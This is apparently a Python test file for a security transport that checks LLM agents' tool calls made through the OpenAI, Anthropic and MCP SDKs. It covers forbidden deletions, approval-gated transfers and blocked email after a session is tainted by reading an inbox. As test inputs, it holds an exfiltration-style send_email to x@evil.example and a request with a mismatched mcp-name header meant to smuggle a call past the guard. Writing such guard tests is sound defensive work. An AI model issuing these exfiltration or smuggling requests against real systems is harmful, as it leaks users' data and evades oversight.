"""BastionTransport / AsyncBastionTransport around httpx and httpx2 clients, with the real SDKs."""

from __future__ import annotations

import json
from typing import Any

import anthropic
import httpx
import httpx2
import openai
from conftest import AuditLog, Upstreams
from mcp.client import Client
from mcp.client.streamable_http import streamable_http_client
from servers.llm import Call

from bastion.adapters.pipeline import Guard
from bastion.adapters.transport import AsyncBastionTransport, BastionTransport
from bastion.events import Effect, EventKind, Identity

WEATHER = Call("call_w", "get_weather", {"city": "Paris"})
DELETE = Call("call_d", "delete_repo", {"repo": "acme/site"})
TRANSFER = Call("call_t", "transfer", {"to": "DE89370400440532013000", "amount": 500})
USER = [{"role": "user", "content": "hi"}]


def sync_openai(up: Upstreams, guard: Guard) -> openai.OpenAI:
    http = httpx2.Client(transport=BastionTransport(httpx2.HTTPTransport(), guard=guard))
    return openai.OpenAI(base_url=f"{up.llm_url}/v1", api_key="k", http_client=http, max_retries=0)


def fixed_guard(make_guard: Any, agent: str, **options: Any) -> Guard:
    guard: Guard = make_guard(identity=Identity(agent), **options)
    return guard


def test_sync_openai_sdk_over_httpx2_refuses_a_forbidden_call(
    upstreams: Upstreams, make_guard: Any, agent: str, audit: AuditLog
) -> None:
    upstreams.llm.reply("", WEATHER, DELETE)
    completion = sync_openai(upstreams, fixed_guard(make_guard, agent)).chat.completions.create(
        model="gpt-test", messages=USER
    )
    message = completion.choices[0].message
    assert [c.function.name for c in message.tool_calls or []] == ["get_weather"]
    assert "agents never delete repositories" in (message.content or "")
    calls = [e for e in audit.for_subject(agent) if e.decision.kind is EventKind.CALL]
    assert [(e.target, e.decision.effect) for e in calls] == [
        ("get_weather", Effect.ALLOW),
        ("delete_repo", Effect.FORBID),
    ]


def test_sync_openai_stream_over_httpx2(upstreams: Upstreams, make_guard: Any, agent: str) -> None:
    upstreams.llm.reply("Checking.", DELETE)
    stream = sync_openai(upstreams, fixed_guard(make_guard, agent)).chat.completions.create(
        model="gpt-test", messages=USER, stream=True
    )
    text, saw_call = "", False
    for chunk in stream:
        if chunk.choices:
            text += chunk.choices[0].delta.content or ""
            saw_call = saw_call or bool(chunk.choices[0].delta.tool_calls)
    assert text.startswith("Checking.") and "delete_repo" in text and not saw_call


async def test_async_openai_responses_stream_over_httpx2(
    upstreams: Upstreams, make_guard: Any, agent: str
) -> None:
    upstreams.llm.reply("", WEATHER, DELETE)
    transport = AsyncBastionTransport(
        httpx2.AsyncHTTPTransport(), guard=fixed_guard(make_guard, agent)
    )
    async with httpx2.AsyncClient(transport=transport) as http:
        client = openai.AsyncOpenAI(
            base_url=f"{upstreams.llm_url}/v1", api_key="k", http_client=http, max_retries=0
        )
        stream = await client.responses.create(model="gpt-test", input="go", stream=True)
        final = None
        async for event in stream:
            if event.type == "response.completed":
                final = event.response
    assert final is not None
    assert [i.type for i in final.output] == ["function_call", "message"]
    assert "delete_repo" in final.output_text


def test_anthropic_sdk_over_httpx2_streaming_and_not(
    upstreams: Upstreams, make_guard: Any, agent: str
) -> None:
    guard = fixed_guard(make_guard, agent)
    http = httpx2.Client(transport=BastionTransport(httpx2.HTTPTransport(), guard=guard))
    client = anthropic.Anthropic(
        base_url=upstreams.llm_url, api_key="k", http_client=http, max_retries=0
    )
    upstreams.llm.reply("", WEATHER, DELETE)
    message = client.messages.create(
        model="claude-test", max_tokens=10, messages=[{"role": "user", "content": "go"}]
    )
    assert [b.type for b in message.content] == ["tool_use", "text"]
    with client.messages.stream(
        model="claude-test", max_tokens=10, messages=[{"role": "user", "content": "go"}]
    ) as stream:
        final = stream.get_final_message()
    assert [b.type for b in final.content] == ["tool_use", "text"]
    assert "delete_repo" in final.content[1].text  # type: ignore[union-attr]


def test_plain_httpx_client_with_the_sync_transport(
    upstreams: Upstreams, make_guard: Any, agent: str
) -> None:
    upstreams.llm.reply("", DELETE)
    transport = BastionTransport(httpx.HTTPTransport(), guard=fixed_guard(make_guard, agent))
    with httpx.Client(transport=transport, base_url=upstreams.llm_url) as http:
        reply = http.post(
            "/v1/chat/completions", json={"model": "gpt-test", "messages": USER}
        ).json()
    assert "tool_calls" not in reply["choices"][0]["message"]
    assert "delete_repo" in reply["choices"][0]["message"]["content"]


async def test_plain_httpx_async_client_streams_through_the_async_transport(
    upstreams: Upstreams, make_guard: Any, agent: str
) -> None:
    upstreams.llm.reply("Hello there.", WEATHER)
    transport = AsyncBastionTransport(guard=fixed_guard(make_guard, agent))
    async with httpx.AsyncClient(transport=transport, base_url=upstreams.llm_url) as http:
        body = {"model": "gpt-test", "messages": USER, "stream": True}
        async with http.stream("POST", "/v1/chat/completions", json=body) as response:
            chunks = [chunk async for chunk in response.aiter_text()]
    text = "".join(chunks)
    assert "Hello" in text and "get_weather" in text and "[DONE]" in text


def test_unguarded_requests_pass_through_the_transport(
    upstreams: Upstreams, make_guard: Any, agent: str
) -> None:
    transport = BastionTransport(httpx.HTTPTransport(), guard=fixed_guard(make_guard, agent))
    with httpx.Client(transport=transport) as http:
        assert http.get(f"{upstreams.llm_url}/nothing-here").status_code == 404


def test_ask_yields_an_approval_id_and_the_retry_passes_once_after_approval(
    upstreams: Upstreams, make_guard: Any, agent: str
) -> None:
    import asyncio

    guard = fixed_guard(make_guard, agent)
    client = sync_openai(upstreams, guard)
    upstreams.llm.reply("", TRANSFER)

    def attempt() -> Any:
        return client.chat.completions.create(model="gpt-test", messages=USER).choices[0].message

    first = attempt()
    assert not first.tool_calls and "needs approval" in (first.content or "")
    approval_id = (first.content or "").rsplit("approval id ", 1)[1].rstrip(").")
    still_pending = attempt()
    assert not still_pending.tool_calls and approval_id in (still_pending.content or "")

    async def approve() -> None:
        await guard.session.approvals.approve(approval_id, Identity("approver"))

    asyncio.run(approve())
    granted = attempt()
    assert [c.function.name for c in granted.tool_calls or []] == ["transfer"]
    again = attempt()
    assert not again.tool_calls and "needs approval" in (again.content or "")


async def test_mcp_sdk_over_the_async_transport_refuses_before_the_server(
    upstreams: Upstreams, make_guard: Any, agent: str
) -> None:
    guard = fixed_guard(make_guard, agent)
    before = dict(upstreams.mcp_calls)
    transport = AsyncBastionTransport(httpx2.AsyncHTTPTransport(), guard=guard)
    async with (
        httpx2.AsyncClient(transport=transport) as http,
        Client(
            streamable_http_client(f"{upstreams.mcp_url}/mcp", http_client=http),  # type: ignore[arg-type]
            mode="2026-07-28",
        ) as client,
    ):
        names = [t.name for t in (await client.list_tools()).tools]
        inbox = await client.call_tool("read_inbox", {})
        after_taint = [t.name for t in (await client.list_tools()).tools]
        refused = await client.call_tool("send_email", {"to": "x@evil.example", "body": "b"})
    assert names == ["get_weather", "read_inbox", "send_email"]
    assert not inbox.is_error
    assert "send_email" not in after_taint
    assert refused.is_error
    assert upstreams.mcp_calls["send_email"] == before.get("send_email", 0)
    assert upstreams.mcp_calls["read_inbox"] == before.get("read_inbox", 0) + 1


def test_mcp_name_mismatch_is_refused_by_the_transport(
    upstreams: Upstreams, make_guard: Any, agent: str
) -> None:
    meta = {"io.modelcontextprotocol/protocolVersion": "2026-07-28"}
    body = {
        "jsonrpc": "2.0",
        "id": 3,
        "method": "tools/call",
        "params": {"name": "send_email", "arguments": {}, "_meta": meta},
    }
    headers = {
        "mcp-protocol-version": "2026-07-28",
        "mcp-method": "tools/call",
        "mcp-name": "get_weather",
        "accept": "application/json, text/event-stream",
    }
    before = dict(upstreams.mcp_calls)
    transport = BastionTransport(guard=fixed_guard(make_guard, agent))
    with httpx2.Client(transport=transport) as http:
        reply = http.post(
            f"{upstreams.mcp_url}/mcp", content=json.dumps(body), headers=headers
        ).json()
    assert reply["error"]["code"] == -32020
    assert dict(upstreams.mcp_calls) == before
